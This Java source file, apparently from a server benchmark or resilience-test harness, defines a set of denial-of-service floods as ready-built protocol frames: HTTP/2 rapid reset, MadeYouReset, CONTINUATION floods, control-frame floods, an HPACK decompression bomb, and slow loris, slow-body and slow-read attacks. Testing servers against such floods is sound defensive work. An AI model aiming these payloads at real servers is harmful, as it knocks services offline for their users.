package io.weir.bench.flood;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.function.IntFunction;

/**
 * One way to cost a server more than oneself.
 *
 * @param connections
 *            how many attackers at a time
 * @param start
 *            what each sends once
 * @param next
 *            what each sends then, by its turn from 0 on, until it is cut
 * @param pauseMillis
 *            between two turns
 * @param reads
 *            whether it takes what it is answered
 */
@SuppressWarnings("ArrayRecordComponent") // never compared
record Flood(String name, int connections, byte[] start, IntFunction<byte[]> next, int pauseMillis, boolean reads) {
    private static final int FAST = 4;
    private static final int SLOW = 200;
    private static final int INITIAL_WINDOW_SIZE = 4;
    private static final int BATCH = 64;

    /** All of them. */
    static List<Flood> all() {
        byte[] hello = Wire.hello();
        byte[] open = Wire.join(hello, Wire.frame(Wire.HEADERS, Wire.END_HEADERS, 1, Wire.request("POST", "/slow")));
        byte[] begun = Wire.join(hello, Wire.frame(Wire.HEADERS, Wire.END_STREAM, 1, Wire.request("GET", "/")));
        return List.of(
                fast("rapid reset (CVE-2023-44487)", hello, turn -> streams(turn, "/wait",
                        id -> Wire.frame(Wire.RST_STREAM, 0, id, Wire.number(8)))),
                fast("MadeYouReset (CVE-2025-8671)", hello, turn -> streams(turn, "/wait",
                        id -> Wire.frame(Wire.WINDOW_UPDATE, 0, id, Wire.number(0)))),
                fast("CONTINUATION (CVE-2024-27316)", begun, again(Wire.frame(Wire.CONTINUATION, 0, 1,
                        Wire.block("x", "y".repeat(100))))),
                fast("header blocks of 60 KiB", hello, turn -> large(turn)),
                fast("SETTINGS", hello, again(Wire.frame(Wire.SETTINGS, 0, 0, Wire.NOTHING))),
                fast("PING", hello, again(Wire.frame(Wire.PING, 0, 0, new byte[8]))),
                fast("PRIORITY", hello, again(Wire.frame(Wire.PRIORITY, 0, 3, new byte[]{0, 0, 0, 1, 7}))),
                fast("DATA without payload", open, again(Wire.frame(Wire.DATA, 0, 1, Wire.NOTHING))),
                fast("WINDOW_UPDATE by one", hello, again(Wire.frame(Wire.WINDOW_UPDATE, 0, 0, Wire.number(1)))),
                new Flood("answers behind a window of 0", FAST, Wire.hello(INITIAL_WINDOW_SIZE, 0),
                        turn -> turn < 8 ? streams(turn, "/large", _ -> Wire.NOTHING) : Wire.NOTHING, 20, true),
                fast("HPACK bomb", hello, turn -> bomb(turn)),
                slow("slow loris", ascii("GET / HTTP/1.1\r\nHost: a\r\n"), _ -> ascii("x-more: y\r\n"), true),
                slow("slow body", ascii("POST /slow HTTP/1.1\r\nHost: a\r\nContent-Length: 100000\r\n\r\n"),
                        _ -> ascii("z"), true),
                slow("slow read", ascii("GET /large HTTP/1.1\r\nHost: a\r\n\r\n"), _ -> Wire.NOTHING, false));
    }

    private static Flood fast(String name, byte[] start, IntFunction<byte[]> next) {
        return new Flood(name, FAST, start, next, 0, true);
    }

    private static Flood slow(String name, byte[] start, IntFunction<byte[]> next, boolean reads) {
        return new Flood(name, SLOW, start, next, 500, reads);
    }

    private static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.US_ASCII);
    }

    private static IntFunction<byte[]> again(byte[] frame) {
        byte[] many = Wire.repeat(frame, BATCH);
        return _ -> many;
    }

    private static byte[] streams(int turn, String path, IntFunction<byte[]> behind) {
        byte[][] parts = new byte[2 * BATCH][];
        for (int i = 0; i < BATCH; i++) {
            int id = 2 * (turn * BATCH + i) + 1;
            parts[2 * i] = Wire.frame(Wire.HEADERS, Wire.END_STREAM | Wire.END_HEADERS, id,
                    Wire.request("GET", path));
            parts[2 * i + 1] = behind.apply(id);
        }
        return Wire.join(parts);
    }

    /** A request whose fields just fit, in four frames. */
    private static byte[] large(int turn) {
        int id = 2 * turn + 1;
        byte[] part = Wire.block("x-large", "y".repeat(14_000));
        return Wire.join(Wire.frame(Wire.HEADERS, Wire.END_STREAM, id, Wire.request("GET", "/")),
                Wire.frame(Wire.CONTINUATION, 0, id, part), Wire.frame(Wire.CONTINUATION, 0, id, part),
                Wire.frame(Wire.CONTINUATION, 0, id, part),
                Wire.frame(Wire.CONTINUATION, Wire.END_HEADERS, id, part));
    }

    /** A request of 7 KiB that stands for 12 MiB: one entry of 3,000 bytes, and 4,000 references of a byte to it. */
    private static byte[] bomb(int turn) {
        byte[] entry = Wire.block("x", "y".repeat(3_000));
        entry[0] = 0x40;
        byte[] references = Wire.repeat(new byte[]{(byte) (0x80 | 62)}, 4_000);
        return Wire.frame(Wire.HEADERS, Wire.END_STREAM | Wire.END_HEADERS, 2 * turn + 1,
                Wire.join(Wire.request("GET", "/"), entry, references));
    }
}
